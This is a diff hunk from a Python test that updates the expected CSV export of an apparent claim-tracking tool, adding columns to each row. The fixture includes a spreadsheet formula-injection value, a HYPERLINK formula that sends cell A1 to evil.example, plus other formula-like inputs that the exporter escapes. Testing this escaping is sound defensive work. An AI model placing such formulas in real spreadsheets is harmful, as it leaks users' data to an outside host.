@@ -258,15 +258,16 @@ GOLDEN = (
     '"Two reports agree;\nthe total is ""at least"" $6.2 billion.",2,1,'
     "https://a.example/1 | https://a.example/2,"
     "https://web.archive.org/web/2025/https://a.example/1 | ,rita,eddie,2025-03-07T09:15:00Z,0,"
-    "2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,4,1,anchored,rita\r\n"
+    '2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,4,1,anchored,rita,"EU aid, ""ReArm""",,\r\n'
     '2,,,"Line one, ""quoted""\nline two 🙂 مرحبا بالعالم",,,'
     '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1,,quote,'
     "'-2+3 | @SUM(A1),new,,,,0,0,,,cli,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1,,none,"
-    "cli\r\n"
+    "cli,,,\r\n"
     '3,"EU aid, ""ReArm""",https://news.example/aid,ReArm Europe,122,134,ReArm Europe,,,other,,'
-    "new,,,,0,0,,,rita,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1,1,anchored,rita\r\n"
+    "new,,,,0,0,,,rita,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1,1,anchored,rita,"
+    '"EU aid, ""ReArm""",,\r\n'
     "4,,,'-5 degrees,,,'-5 degrees,,,other,,dismissed,,,,0,0,,,cli,,,0,"
-    "2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,2,,none,cli\r\n"
+    "2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,2,,none,cli,,,\r\n"
 ).encode("utf-8")
 
 
